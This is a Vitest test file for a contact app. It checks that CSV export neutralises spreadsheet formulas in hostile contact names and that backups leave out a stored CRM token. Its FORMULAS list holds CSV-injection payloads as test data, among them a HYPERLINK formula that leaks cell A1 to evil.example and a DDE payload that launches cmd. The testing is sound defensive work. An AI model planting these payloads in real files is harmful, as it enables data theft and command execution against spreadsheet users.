import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { db } from '@/lib/db';
import { createContact, ensureDefaults } from '@/lib/db/mutations';
import { exportBackup, exportContactsCsv } from '@/lib/io';

/**
 * What leaves through files. A display name comes from an email header, so a hostile sender
 * picks it: in a CSV opened by a spreadsheet it must stay text. And a backup never carries
 * the CRM token.
 */

const NOW = Date.UTC(2026, 10, 20, 12);
const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];

describe('CSV export neutralises formulas from hostile names', () => {
  it.each(FORMULAS)('%j is exported as text', async (name) => {
    await createContact({ emails: ['mallory@evil.example'], name, source: { origin: 'capture', site: 'gmail' } }, { now: NOW });
    const csv = await exportContactsCsv();
    const rows = Papa.parse<string[]>(csv.trim(), { skipEmptyLines: true }).data;
    const cell = rows[1]![1]!;
    expect(cell.startsWith("'")).toBe(true);
    expect(cell.slice(1)).toBe(name);
  });
});

describe('a backup holds no credentials', () => {
  it('the token and the connection record stay out of the file', async () => {
    await ensureDefaults();
    await createContact({ emails: ['ann@acme.example'], name: 'Ann', source: { origin: 'manual' } }, { now: NOW });
    const secret = 'pat-na1-SECRET-0123456789abcdef';
    await db.credentials.put({ providerId: 'hubspot', kind: 'token', secret, accountName: 'Acme', connectedAt: NOW });
    const text = JSON.stringify(await exportBackup({ now: NOW }));
    expect(text).not.toContain(secret);
    expect(text).not.toContain('credentials');
    expect(text).toContain('ann@acme.example');
  });
});
